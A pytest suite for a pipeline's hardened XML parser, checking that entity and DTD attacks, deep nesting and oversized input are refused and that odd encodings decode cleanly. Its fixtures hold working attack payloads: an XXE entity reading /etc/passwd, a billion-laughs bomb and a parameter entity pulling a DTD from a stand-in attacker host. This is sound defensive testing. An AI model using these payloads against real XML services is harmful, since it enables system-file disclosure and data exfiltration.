"""Safe XML reading: attack payloads become UnsafeXMLError with a clear reason; odd bytes decode or fail cleanly."""

from __future__ import annotations

import codecs
from pathlib import Path

import pytest
from lxml import etree

from pipeline.errors import DecodeError, ParseError, UnsafeXMLError
from pipeline.parsers import _xml
from pipeline.parsers._xml import parse_xml, root_name
from pipeline.parsers.nitf import NitfParser

XXE = b"""<?xml version="1.0"?>
<!DOCTYPE nitf [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<nitf><body><body.content><p>&xxe;</p></body.content></body></nitf>"""

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<lolz>&lol3;</lolz>"""

PARAMETER_ENTITY_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE data [<!ENTITY % remote SYSTEM "http://attacker.invalid/evil.dtd"> %remote;]>
<data>&exfil;</data>"""


@pytest.mark.parametrize(
    ("payload", "reason"),
    [
        pytest.param(XXE, "declares entities", id="xxe"),
        pytest.param(BILLION_LAUGHS, "declares entities", id="billion-laughs"),
        pytest.param(PARAMETER_ENTITY_DTD, "declares entities", id="external-dtd-parameter-entity"),
        pytest.param(b'<!DOCTYPE a [<!ATTLIST a b CDATA "c">]><a/>', "internal DTD subset", id="internal-subset"),
        pytest.param(
            b"<!-- " + b"x" * 70000 + b' --><!DOCTYPE a [<!ENTITY e "boom">]><a>&e;</a>',
            "declares entities",
            id="entity-behind-padding",
        ),
    ],
)
def test_entity_and_dtd_payloads_are_refused(payload: bytes, reason: str) -> None:
    """Every entity/DTD attack ends as UnsafeXMLError naming what was refused."""
    with pytest.raises(UnsafeXMLError, match=reason):
        parse_xml(payload)


def test_refusal_through_a_parser_names_the_format() -> None:
    """Through a parser the error carries its format, for the dead letter."""
    with pytest.raises(UnsafeXMLError) as caught:
        NitfParser().parse(XXE, ())
    assert caught.value.format == "nitf"
    assert caught.value.stage == "parse"
    assert "refused for safety" in str(caught.value)


@pytest.mark.parametrize("depth", [150, 5000])
def test_too_deep_documents_are_refused(depth: int) -> None:
    """Nesting past our limit (and past libxml2's own) is UnsafeXMLError about depth."""
    payload = b"<a>" * depth + b"x" + b"</a>" * depth
    with pytest.raises(UnsafeXMLError, match=r"depth|deep"):
        parse_xml(payload)


def test_too_big_documents_are_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    """A dispatch over the size limit is refused before parsing."""
    monkeypatch.setattr(_xml, "MAX_BYTES", 1000)
    with pytest.raises(UnsafeXMLError, match="exceeds the 1000-byte limit"):
        parse_xml(b"<a>" + b"x" * 1000 + b"</a>")


@pytest.mark.parametrize(
    "doctype",
    [
        b'<!DOCTYPE nitf SYSTEM "x.dtd">',
        b'<!DOCTYPE nitf PUBLIC "-//IPTC//DTD NITF 3.4//EN" "http://www.iptc.org/std/NITF/3.4/nitf-3-4.dtd">',
    ],
)
def test_external_doctype_without_subset_still_parses(doctype: bytes) -> None:
    """A plain DOCTYPE (never loaded) is harmless: the document parses."""
    root = parse_xml(b'<?xml version="1.0"?>\n' + doctype + b"\n<nitf><head/></nitf>")
    assert root.tag == "nitf"


def test_html_entities_decode_without_the_dtd() -> None:
    """&nbsp; and &eacute; (defined by the unloaded NITF DTD) become their characters."""
    root = parse_xml(b'<!DOCTYPE nitf SYSTEM "x.dtd"><nitf><p>caf&eacute;&nbsp;noir</p></nitf>')
    assert root[0].text == "café\u00a0noir"


def test_unknown_entity_is_a_parse_error() -> None:
    """An entity that is neither XML's nor HTML's cannot be resolved: ParseError with the reason."""
    with pytest.raises(ParseError, match=r"malformed XML: .*notanentity"):
        parse_xml(b"<a>&notanentity;</a>")


def test_malformed_xml_is_a_parse_error() -> None:
    """Broken markup is ParseError, not an lxml exception."""
    with pytest.raises(ParseError, match="malformed XML"):
        parse_xml(b"<a><b></a>")


def test_binary_bytes_are_a_decode_error() -> None:
    """Bytes that are not text end as DecodeError."""
    with pytest.raises(DecodeError):
        parse_xml(b"<a>" + bytes(range(0, 32)) * 20 + b"</a>")


def test_stray_latin1_bytes_in_utf8_declared_xml_are_repaired() -> None:
    """A document declared UTF-8 with cp1252 bytes is read, not refused."""
    root = parse_xml('<?xml version="1.0" encoding="UTF-8"?><a>Müller</a>'.encode("cp1252"))
    assert root.text == "Müller"


@pytest.mark.parametrize(
    ("bom", "codec"),
    [(codecs.BOM_UTF8, "utf-8"), (codecs.BOM_UTF16_LE, "utf-16-le"), (codecs.BOM_UTF16_BE, "utf-16-be")],
)
def test_byte_order_marks_decide_the_encoding(bom: bytes, codec: str) -> None:
    """UTF-8/16 documents with a byte-order mark parse, whatever their declaration says."""
    text = '<?xml version="1.0" encoding="UTF-16"?><nitf><p>Zoë</p></nitf>'
    raw = bom + text.encode(codec)
    assert root_name(raw) == "nitf"
    assert parse_xml(raw)[0].text == "Zoë"


def test_root_name_skips_comments_with_angle_brackets() -> None:
    """A comment holding ">" before the root does not confuse the sniff."""
    assert root_name(b'<?xml version="1.0"?>\n<!-- a > b -->\n<ns:NewsML xmlns:ns="x"/>') == "NewsML"


def test_external_dtd_on_disk_is_never_read(tmp_path: Path) -> None:
    """An entity defined only in a local external DTD stays an unresolved reference: the file is not read."""
    dtd = tmp_path / "evil.dtd"
    dtd.write_text('<!ENTITY secret "loaded">', encoding="utf-8")
    root = parse_xml(f'<!DOCTYPE a SYSTEM "{dtd.as_uri()}"><a>x&secret;y</a>'.encode())
    assert root.text == "x"
    assert b"loaded" not in etree.tostring(root)
    assert [(node.tag is etree.Entity, node.tail) for node in root] == [(True, "y")]


@pytest.mark.parametrize("label", ["UTF-16", "x-unknown-charset", "windows-1252"])
def test_wrong_or_unknown_declarations_fall_back_to_the_bytes(label: str) -> None:
    """A declaration the bytes contradict (or an unknown label) does not garble UTF-8 text."""
    raw = f'<?xml version="1.0" encoding="{label}"?><a>Årsrapport €</a>'.encode()
    assert parse_xml(raw).text == "Årsrapport €"
